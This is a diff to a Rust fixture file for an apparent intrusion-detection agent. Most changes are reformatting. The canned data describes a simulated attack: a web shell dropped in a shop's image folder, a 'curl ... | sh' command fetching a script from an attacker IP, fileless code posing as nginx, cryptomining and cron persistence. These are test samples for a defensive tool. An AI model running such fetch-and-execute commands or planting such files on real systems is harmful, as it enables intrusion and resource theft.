@@ -1,6 +1,6 @@
 //! Canned answers: one intrusion as the agent would tell it, and a host that watches.
 
-#![allow(dead_code)]
+#![allow(dead_code, missing_docs, unreachable_pub)]
 
 use std::collections::BTreeMap;
 use std::net::{IpAddr, Ipv4Addr, SocketAddr};
@@ -66,7 +66,12 @@ pub fn finding() -> Finding {
                 "the rounding mode changed in 38 of 40 samples",
                 &[("changed", 38.0), ("samples", 40.0)],
             ),
-            evidence(Signal::ComputeShape, 6.1, "2 threads at 99 % with hardly a system call", &[("cpu", 1.98)]),
+            evidence(
+                Signal::ComputeShape,
+                6.1,
+                "2 threads at 99 % with hardly a system call",
+                &[("cpu", 1.98)],
+            ),
             evidence(Signal::PoolShape, 5.2, "198.51.100.7:443: sizes and rhythm of a pool", &[]),
             evidence(Signal::OddParent, -0.8, "a shell may start such a thing", &[]),
         ],
@@ -123,15 +128,21 @@ pub fn incident() -> Incident {
         stopped: Some(BEGAN.plus_secs(9.4)),
         timeline: vec![
             act(0.0, "began with", "connection from 203.0.113.9 to port 443", Some("www-data"), &[]),
+            act(1.0, "which wrote", "/var/www/shop/img/a.php", Some("www-data"), &["T1505.003"]),
             act(
-                1.0,
-                "which wrote",
-                "/var/www/shop/img/a.php",
+                2.0,
+                "which ran",
+                "sh -c \"curl -s http://203.0.113.9/i.sh | sh\"",
                 Some("www-data"),
-                &["T1505.003"],
+                &["T1059.004"],
             ),
-            act(2.0, "which ran", "sh -c \"curl -s http://203.0.113.9/i.sh | sh\"", Some("www-data"), &["T1059.004"]),
-            act(3.0, "which ran", "\"nginx\" from memory, no file; not nginx", Some("www-data"), &["T1620", "T1036"]),
+            act(
+                3.0,
+                "which ran",
+                "\"nginx\" from memory, no file; not nginx",
+                Some("www-data"),
+                &["T1620", "T1036"],
+            ),
             act(
                 4.0,
                 "which mined",
@@ -140,7 +151,13 @@ pub fn incident() -> Incident {
                 Some("www-data"),
                 &["T1496.001"],
             ),
-            act(5.0, "talking to", "198.51.100.7:443 in TLS: sizes and rhythm of a pool (0.97), on no list", None, &[]),
+            act(
+                5.0,
+                "talking to",
+                "198.51.100.7:443 in TLS: sizes and rhythm of a pool (0.97), on no list",
+                None,
+                &[],
+            ),
         ],
         tree: vec![
             node(0, 811, "apache2", "/usr/sbin/apache2", false),
@@ -154,7 +171,7 @@ pub fn incident() -> Incident {
     }
 }
 
-/// An incident as the list gives it, which leaves the timeline out.
+/// An incident as the list gives it, which leaves timeline and tree out.
 pub fn listed() -> Vec<Incident> {
     let first = Incident {
         id: IncidentId(6),
@@ -167,7 +184,7 @@ pub fn listed() -> Vec<Incident> {
         timeline: vec![],
         ..incident()
     };
-    vec![first, Incident { timeline: vec![], ..incident() }]
+    vec![first, Incident { timeline: vec![], tree: vec![], ..incident() }]
 }
 
 fn event(after: f64, pid: u32, kind: EventKind) -> Event {
@@ -238,7 +255,12 @@ pub fn events() -> Vec<Event> {
         memory: 4 << 30,
     };
     let kinds = vec![
-        EventKind::Found(Box::new(process(811, "apache2", "/usr/sbin/apache2", &["/usr/sbin/apache2", "-k", "start"]))),
+        EventKind::Found(Box::new(process(
+            811,
+            "apache2",
+            "/usr/sbin/apache2",
+            &["/usr/sbin/apache2", "-k", "start"],
+        ))),
         EventKind::Fork { child: key(4700), comm: "apache2".to_owned() },
         EventKind::Exec(Box::new(process(4700, "sh", "/usr/bin/dash", &["sh", "-c", "curl -s x | sh"]))),
         EventKind::Exec(Box::new(nameless)),
@@ -247,11 +269,7 @@ pub fn events() -> Vec<Event> {
         EventKind::Listen(listener),
         EventKind::FlowChunk(chunk(b"{\"id\":1,\"method\":\"login\"}\n")),
         EventKind::FlowChunk(chunk(&[0x16, 0x03, 0x01, 0x02, 0x00])),
-        EventKind::Name(NameAnswer {
-            name: "pool.example".to_owned(),
-            address: remote.ip(),
-            ttl_secs: 60,
-        }),
+        EventKind::Name(NameAnswer { name: "pool.example".to_owned(), address: remote.ip(), ttl_secs: 60 }),
         EventKind::File(changed("/etc/cron.d/x", FileAct::Written, Some(PersistencePlace::Cron))),
         EventKind::File(changed("/tmp/b", FileAct::Renamed { from: Some("/tmp/a".to_owned()) }, None)),
         EventKind::Code(CodeAct::NamelessExec { memfd: true }),
@@ -277,7 +295,13 @@ pub fn events() -> Vec<Event> {
         .collect()
 }
 
-fn protection(name: &str, mode: Mode, tier: Option<Tier>, proven: Option<bool>, note: &str) -> ProtectionStatus {
+fn protection(
+    name: &str,
+    mode: Mode,
+    tier: Option<Tier>,
+    proven: Option<bool>,
+    note: &str,
+) -> ProtectionStatus {
     ProtectionStatus { name: name.to_owned(), mode, tier, proven, note: note.to_owned() }
 }
 
@@ -291,14 +315,30 @@ pub fn status() -> AgentStatus {
         kernel: "6.18.5".to_owned(),
         tier: Tier::Permission,
         protections: vec![
-            protection("mining", Mode::Enforce, Some(Tier::Permission), Some(true), "task iterator, cgroup BPF"),
-            protection("fileless", Mode::Observe, Some(Tier::Signal), Some(true), "tracing BPF; the kernel refuses LSM programs"),
+            protection(
+                "mining",
+                Mode::Enforce,
+                Some(Tier::Permission),
+                Some(true),
+                "task iterator, cgroup BPF",
+            ),
+            protection(
+                "fileless",
+                Mode::Observe,
+                Some(Tier::Signal),
+                Some(true),
+                "tracing BPF; the kernel refuses LSM programs",
+            ),
             protection("persistence", Mode::Observe, Some(Tier::Poll), None, "inotify on 14 places"),
             protection("tampering", Mode::Off, None, None, "off by policy"),
         ],
         probes: vec![
             probe(Capability::Tracing, true, "a tp_btf program loaded and ran"),
-            probe(Capability::LsmBpf, false, "BPF_PROG_LOAD said EPERM; boot with lsm=...,bpf on a kernel that allows it"),
+            probe(
+                Capability::LsmBpf,
+                false,
+                "BPF_PROG_LOAD said EPERM; boot with lsm=...,bpf on a kernel that allows it",
+            ),
         ],
         disarmed_until: None,
         fallen_back: vec![],
@@ -331,7 +371,12 @@ pub fn top() -> TopView {
     let flow = TreeFlow {
         transport: Transport::Tcp,
         remote: "pool.example (198.51.100.7):443".to_owned(),
-        volume: FlowVolume { sent_bytes: 1300, received_bytes: 90_112, sent_packets: 10, received_packets: 70 },
+        volume: FlowVolume {
+            sent_bytes: 1300,
+            received_bytes: 90_112,
+            sent_packets: 10,
+            received_packets: 70,
+        },
     };
     TopView {
         time: BEGAN,
